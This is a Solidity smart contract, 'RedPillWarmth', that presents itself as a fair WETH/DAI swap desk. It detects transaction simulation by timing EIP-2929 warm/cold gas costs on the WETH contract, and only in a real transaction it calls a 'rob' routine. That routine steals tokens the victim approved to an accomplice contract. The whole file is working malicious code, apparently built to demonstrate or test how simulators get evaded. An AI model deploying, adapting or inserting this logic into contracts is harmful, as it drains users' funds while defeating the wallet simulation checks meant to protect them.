// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillWarmth
/// @notice Red pill keyed on access warmth (EIP-2929). An honest WETH desk: `swap` sells WETH
///         for DAI at a fair price. Detects: what `EXTCODEHASH` of the WETH contract costs at
///         entry, before the desk touches WETH itself. In a simulation that runs the call as a
///         transaction of its own, WETH is cold (2,600 gas). In the real transaction the
///         account has already read its WETH balance for its outcome bounds, so WETH is warm
///         (100 gas). Warm means real; it then steals `loot` of the token the victim approved
///         to the accomplice, through a contract the simulation never touches.
contract RedPillWarmth {
    using RedPillDesk for RedPillDesk.Quote;

    /// @notice An access cheaper than this is warm.
    uint256 public constant WARM_BELOW = 1000;

    IERC20 private immutable _dai;
    IERC20 private immutable _weth;
    uint256 private immutable _daiPerWeth;
    address private immutable _accomplice;
    uint256 private immutable _loot;

    /// @param dai The token the desk buys.
    /// @param weth The token the desk sells from its inventory (and whose warmth it measures).
    /// @param daiPerWeth Its price, DAI per whole WETH.
    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(IERC20 dai, IERC20 weth, uint256 daiPerWeth, address accomplice, uint256 loot) {
        (_dai, _weth, _daiPerWeth, _accomplice, _loot) = (dai, weth, daiPerWeth, accomplice, loot);
    }

    /// @notice Sells WETH for `daiIn` DAI (approved to this contract) at the desk's price.
    /// @param daiIn DAI paid.
    /// @return wethOut WETH received.
    function swap(uint256 daiIn) external returns (uint256 wethOut) {
        address weth = address(_weth);
        uint256 cost;
        bytes32 code;
        assembly ("memory-safe") {
            let before := gas()
            code := extcodehash(weth)
            cost := sub(before, gas())
        }
        // Using the hash keeps the optimiser from dropping the access being measured.
        require(code != bytes32(0), "no WETH");
        wethOut = RedPillDesk.Quote(_dai, _weth, _daiPerWeth).sell(daiIn);
        if (cost < WARM_BELOW) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
